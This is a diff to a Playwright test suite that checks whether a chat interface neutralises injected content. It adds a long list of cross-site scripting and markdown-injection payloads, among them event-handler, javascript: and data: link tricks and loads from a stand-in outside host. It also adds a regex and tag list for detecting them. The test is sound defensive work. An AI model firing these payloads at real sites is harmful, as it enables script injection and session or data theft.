@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 import pytest
 from playwright.sync_api import Browser, BrowserContext, Page, expect
 
@@ -61,18 +63,87 @@ PAYLOADS = [
 ]
 
 
-def test_no_payload_runs_or_fetches_whether_typed_or_answered(page: Page, engine: ScriptedEngine) -> None:
-    for index, payload in enumerate(PAYLOADS):
+MORE_PAYLOADS = [
+    "<ScRiPt>window.hacked = 1</sCrIpT>",
+    "<script src=http://elsewhere.example/a.js></script>",
+    "<script\n>window.hacked = 1</script\n>",
+    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
+    "<img src=http://elsewhere.example/b.png srcset='http://elsewhere.example/c.png 2x'>",
+    "<img/src/onerror=window.hacked=1>",
+    "<img src='x' onerror=&#119;indow.hacked=1>",
+    "<picture><source srcset=http://elsewhere.example/d.png><img src=x></picture>",
+    "<svg><script>window.hacked = 1</script></svg>",
+    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:window.hacked=1'><text y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=window.hacked=1/>#x'></svg>",
+    "<body onload=window.hacked=1>",
+    "<input onfocus=window.hacked=1 autofocus>",
+    "<select onfocus=window.hacked=1 autofocus></select>",
+    "<marquee onstart=window.hacked=1>x</marquee>",
+    "<object data='javascript:window.hacked=1'></object>",
+    "<embed src='http://elsewhere.example/e.swf'>",
+    "<iframe src='javascript:parent.hacked=1'></iframe>",
+    "<iframe src=http://elsewhere.example/f.html></iframe>",
+    "<base href=http://elsewhere.example/>",
+    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/g'>",
+    "<div style='background:url(http://elsewhere.example/h.png)'>x</div>",
+    "<audio src=http://elsewhere.example/i.mp3 autoplay></audio>",
+    "<video poster=http://elsewhere.example/j.png></video>",
+    "<template><script>window.hacked = 1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
+    "<!--><img src=x onerror=window.hacked=1>-->",
+    "<![CDATA[<img src=x onerror=window.hacked=1>]]>",
+    "[bait](JaVaScRiPt:window.hacked=1)",
+    "[bait](java\tscript:window.hacked=1)",
+    "[bait](&#106;avascript:window.hacked=1)",
+    "[bait](data:text/html,<script>window.hacked=1</script>)",
+    "[bait](vbscript:msgbox)",
+    "<javascript:window.hacked=1>",
+    "[bait]: javascript:window.hacked=1\n\n[bait]",
+    "![x](javascript:window.hacked=1)",
+    "![x](http://elsewhere.example/k.png 'x')",
+    "![x][img]\n\n[img]: http://elsewhere.example/l.png",
+    "[![x](http://elsewhere.example/m.png)](http://elsewhere.example/n)",
+    '[x](http://elsewhere.example/"onmouseover="window.hacked=1)',
+    "$\\href{javascript:window.hacked=1}{x}$ and $\\url{javascript:window.hacked=1}$",
+    "$$\\htmlData{x=1}{y} \\includegraphics{http://elsewhere.example/o.png}$$",
+    "\\(\\htmlStyle{background:url(http://elsewhere.example/p.png)}{x}\\)",
+    "```html\n<script>window.hacked = 1</script>\n",
+    '```mermaid\ngraph TD; A[<img src=x onerror=window.hacked=1>]-->B; click A "javascript:window.hacked=1"\n```',
+    "```'><img src=x onerror=window.hacked=1>\nx\n```",
+    "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | c |",
+    "- <details open ontoggle=window.hacked=1>x</details>\n- > <img src=x onerror=window.hacked=1>",
+    "# <a href=javascript:window.hacked=1>x</a>",
+]
+
+HARMFUL = (
+    "script, iframe, form, style, img, link, video, audio, object, embed, base, meta, template, picture, [style*=elsewhere]"
+)
+SCHEMES = re.compile(r"^\s*(java\s*script|vbscript|data):", re.IGNORECASE)
+
+
+@pytest.mark.parametrize(
+    "payloads",
+    [pytest.param(PAYLOADS, id="a few"), pytest.param([*PAYLOADS, *MORE_PAYLOADS], id="all", marks=pytest.mark.slow)],
+)
+def test_no_payload_runs_or_fetches_whether_typed_or_answered(
+    payloads: list[str], page: Page, engine: ScriptedEngine, server: Served
+) -> None:
+    """That nothing was asked of another origin is seen to by the `context` fixture."""
+    for index, payload in enumerate(payloads):
         engine.answer = f"before {payload} after"
         say(page, payload)
         expect(page.locator("#chat .bot")).to_have_count(index + 1)
         expect(page.locator("#send")).to_be_enabled()
-        assert page.locator("#chat .user .message-content").nth(index).inner_text().strip() == payload
-    for bait in page.locator("#chat a").all():
-        assert not (bait.get_attribute("href") or "").lower().startswith("javascript")
+        assert page.locator("#chat .user .message-content").nth(index).inner_text().strip() == payload.strip(), payload
+    for link in page.locator("#chat a").all():
+        assert not SCHEMES.match(link.get_attribute("href") or link.get_attribute("xlink:href") or "")
     page.wait_for_timeout(200)
     assert page.evaluate("window.hacked") is None
-    assert page.locator("#chat .message-content :is(script, iframe, form, style, img, link, video)").count() == 0
+    assert page.locator(f"#chat .message-content :is({HARMFUL})").count() == 0
+    attributes = "e => [...e.querySelectorAll('.message-content *')].flatMap(each => each.getAttributeNames())"
+    assert [each for each in page.locator("#chat").evaluate(attributes) if each.startswith("on")] == []
+    assert page.url.rstrip("/") == server.url, "nor was the page led elsewhere"
     expect(page.locator("#chat")).to_be_visible()
 
 
